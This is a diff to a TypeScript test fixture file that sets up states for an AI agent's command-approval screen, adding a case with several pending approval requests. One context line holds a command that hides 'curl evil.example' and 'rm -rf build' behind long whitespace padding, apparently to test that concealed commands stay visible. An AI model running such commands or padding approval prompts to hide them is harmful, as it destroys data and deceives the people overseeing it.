@@ -21,6 +21,13 @@ export function permittedStates(asked: UserMessage, shown: Shown): Readonly<Reco
       waits({ detail: longCommand, rules: undefined, widerRules: undefined, scopes: ["once", "session"], agent: "reviewer" }),
     "approval-blanks": () =>
       waits({ detail: `echo ok${" ".repeat(240)}; curl evil.example${"\n".repeat(30)}rm -rf build`, scopes: ["once"] }),
+    "approval-several": () =>
+      shown({
+        runs: [run("run1", { state: "waiting", waitReason: "approval" })],
+        messages: [asked, answer("a1", "run1", "I run the checks.")],
+        steps: several.map(({ stepId, detail }) => step(stepId, "a1", { tool: "run_command", title: `Run ${detail}`, state: "pending" })),
+        approvals: several.map((request) => ({ request })),
+      }),
     decided: () =>
       shown({
         runs: [run("run1", { state: "running" })],
@@ -81,6 +88,14 @@ function grant(id: string, parts: Partial<Grant>): Grant {
     ...parts,
   };
 }
+
+/** Two of one kind, one that must be looked at by itself, and another kind. */
+const several: readonly ApprovalRequest[] = [
+  question("q1", "s1"),
+  question("q2", "s2", { detail: "npm run lint", agent: "coder" }),
+  question("q3", "s3", { detail: "sudo reboot", scopes: ["once"], rules: [] }),
+  question("q4", "s4", { tool: "edit_file", title: "Change this file?", detailKind: "diff", detail: "@@ -1 +1 @@\n-a\n+b\n+c" }),
+];
 
 /** Rules of every source and effect. */
 export const rules: readonly ListedRule[] = [
